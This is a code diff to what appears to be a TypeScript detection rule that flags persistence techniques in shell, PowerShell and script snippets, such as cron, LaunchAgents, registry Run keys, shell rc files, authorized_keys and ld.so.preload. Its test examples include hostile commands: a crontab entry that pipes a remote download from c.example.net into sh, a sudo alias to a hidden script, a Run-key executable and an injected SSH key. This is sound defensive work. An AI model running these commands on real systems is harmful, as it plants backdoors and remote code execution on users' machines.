@@ -12,10 +12,14 @@ export const rule: Rule = {
   examples: {
     positive: [
       '```bash\n(crontab -l; echo "* * * * * curl -s https://c.example.net/t | sh") | crontab -\n```\n',
+      '```bash\ncp agent.plist ~/Library/LaunchAgents/net.example.agent.plist\n```\n',
+      "```bash\necho \"alias sudo='~/.cache/s.sh sudo'\" >> ~/.bashrc\n```\n",
+      "```powershell\nNew-ItemProperty -Path HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run -Name Upd -Value 'C:\\u.exe'\n```\n",
       '```bash\ngit config --global core.hooksPath /tmp/.githooks\n```\n',
       '```bash\necho "ssh-ed25519 AAAA x" >> ~/.ssh/authorized_keys\n```\n',
     ],
     negative: [
+      '```bash\necho \'eval "$(starship init bash)"\' >> ~/.bashrc\n```\n',
       '```bash\ncrontab -l\n```\n',
       "```bash\necho 'export EDITOR=vim' >> ~/.bashrc\n```\n",
       'Cron entries live in the crontab.\n',
@@ -38,13 +42,20 @@ function judge(command: CommandFact): readonly Observation[] {
 
 const PLACE =
   /LaunchAgents\/|LaunchDaemons\/|\.ssh\/authorized_keys|\/etc\/cron\.|systemd\/user\/|\.config\/autostart\/|CurrentVersion\\+Run|Start Menu\\+Programs\\+Startup/
+const SHELL_START = /\.(?:bashrc|zshrc|profile|bash_profile|zprofile|zshenv)\b/
+const STARTED = /\bnohup\b|\b(?:curl|wget)\s|&\\n|&["']/
 const WRITES =
-  /\bopen\([^)\n]{0,120}["'][aw]b?["']|write_text\(|(?:write|append)File(?:Sync)?\(|shutil\.copy|SetValueEx|\.write\(/
+  /\.open\(\s{0,3}["']a|\bopen\([^)\n]{0,120}["'][aw]b?["']|write_text\(|(?:write|append)File(?:Sync)?\(|shutil\.copy|SetValueEx|\.write\(/
+
+const WINDOWS =
+  /\bRegister-ScheduledTask\b|\bNew-ScheduledTaskAction\b|\b(?:New|Set)-ItemProperty\b[^\n]{0,160}CurrentVersion\\{1,2}Run\b|\breg(?:\.exe)? add\b[^\n]{0,120}CurrentVersion\\{1,2}Run\b|\bschtasks(?:\.exe)?\b[^\n]{0,80}\/create\b|\b(?:Copy-Item|copy|move|xcopy)\b[^\n]{0,160}Start Menu\\{1,2}Programs\\{1,2}Startup/i
 
 /** A script that writes to such a place does it without a shell. */
 function written(segment: Evidence['segments'][number]): readonly Observation[] {
   if (segment.language !== 'python' && segment.language !== 'javascript' && segment.language !== 'powershell') return []
-  const match = PLACE.exec(segment.text)
+  const windows = segment.language === 'powershell' ? WINDOWS.exec(segment.text) : null
+  if (windows !== null) return [{ segment, at: windows.index, message: 'Something is made to start with every login' }]
+  const match = PLACE.exec(segment.text) ?? (STARTED.test(segment.text) ? SHELL_START.exec(segment.text) : null)
   if (match === null || !WRITES.test(segment.text)) return []
   return [
     {
@@ -69,24 +80,46 @@ function kindOf(command: CommandFact): Start | undefined {
 const START_FILES = /LaunchAgents|LaunchDaemons|\/etc\/cron|systemd\/|\.config\/autostart|rc\.local/
 const SHELL_FILES = /\.(?:bashrc|zshrc|profile|bash_profile|zprofile|zshenv)\b/
 
+const COPIES = /^(?:cp|mv|install|ln|tee|Copy-Item|ditto)$/
+
+/** What a command writes: where its output goes, or where it copies to. */
+function targetOf({ name, words, writes }: CommandFact): string {
+  if (!COPIES.test(name)) return writes.join(' ')
+  const last = words.findLast((word) => !word.startsWith('-')) ?? ''
+  return [...writes, name === 'tee' ? words.join(' ') : last].join(' ')
+}
+
 /** By where a command writes. */
-function kindOfFile({ writes, written: text }: CommandFact): Start | undefined {
-  const target = writes.join(' ')
+function kindOfFile(command: CommandFact): Start | undefined {
+  const text = command.written
+  const target = targetOf(command)
   if (target === '') return undefined
+  if (/\/etc\/ld\.so\.preload/.test(target))
+    return { message: 'Every program loads this', severity: 'warn', isWorse: true }
   if (target.includes('.ssh/authorized_keys'))
     return { message: 'A key is let into this machine', severity: 'warn', isWorse: true }
   if (START_FILES.test(target))
     return { message: `${target} makes something start by itself`, severity: 'warn', isWorse: false }
   const reaches = REACHES.test(text)
-  if (SHELL_FILES.test(target) && reaches)
-    return { message: 'Every new shell runs this', severity: 'warn', isWorse: true }
+  if (SHELL_FILES.test(target)) return kindOfShellFile(text)
   if (!/\.git\/hooks\/|\.githooks\//.test(target)) return undefined
   return { message: 'A hook runs with every commit', severity: 'note', isWorse: reaches }
 }
 
+/** A path or the set-up of a tool is what such files are for. */
+function kindOfShellFile(text: string): Start | undefined {
+  if (/\b(?:curl|wget|nc|base64|https?:)\b/.test(text))
+    return { message: 'Every new shell runs this', severity: 'warn', isWorse: true }
+  if (/\balias\s{1,3}(?:sudo|su|ssh|passwd|gpg)=|\bnohup\b|\bPROMPT_COMMAND\b|\bLD_PRELOAD\b/.test(text))
+    return { message: 'Every new shell runs this', severity: 'warn', isWorse: false }
+  return undefined
+}
+
 /** By what a command is. */
-function kindOfProgram({ name, words }: CommandFact): Start | undefined {
+function kindOfProgram({ name, words, written: text }: CommandFact): Start | undefined {
   const line = words.join(' ')
+  if (name === 'at' && /^(?:now|\d|-f|midnight|noon|tomorrow)/.test(line))
+    return { message: 'A command is run later', severity: 'note', isWorse: REACHES.test(text) }
   if (name === 'crontab' && !/^-[lr]\b/.test(line))
     return { message: 'A command is put into the crontab', severity: 'note', isWorse: false }
   if (name === 'git' && /config[^|]{0,40}core\.hooksPath/.test(line)) {
